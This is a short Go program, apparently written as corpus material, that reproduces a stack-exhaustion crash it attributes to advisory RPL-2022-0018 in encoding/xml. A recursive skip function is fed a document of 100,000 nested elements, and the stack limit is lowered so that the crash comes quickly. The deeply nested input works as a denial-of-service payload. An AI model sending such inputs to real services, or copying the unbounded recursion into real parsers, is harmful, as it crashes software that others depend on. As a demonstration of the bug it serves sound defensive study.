// Program main shows the crash of RPL-2022-0018 (encoding/xml): skip calls itself once for each level of
// nesting, and the depth comes from the document. The stack limit is 1 MiB here to be quick; the default
// is 1 GB. The deferred recover does not run. It is a model written for this corpus, not code of the
// standard library.
package main

import (
	"encoding/xml"
	"fmt"
	"runtime/debug"
	"strings"
)

// skip reads to the end of the element, recursively.
func skip(d *xml.Decoder) error {
	for {
		tok, err := d.Token()
		if err != nil {
			return err
		}
		switch tok.(type) {
		case xml.StartElement:
			if err := skip(d); err != nil {
				return err
			}
		case xml.EndElement:
			return nil
		}
	}
}

func main() {
	debug.SetMaxStack(1 << 20)
	defer func() { fmt.Println("recovered:", recover()) }()
	const depth = 100_000
	document := strings.Repeat("<a>", depth) + strings.Repeat("</a>", depth)
	fmt.Println("a document of", len(document), "bytes")
	d := xml.NewDecoder(strings.NewReader(document))
	d.Token()
	fmt.Println(skip(d))
}
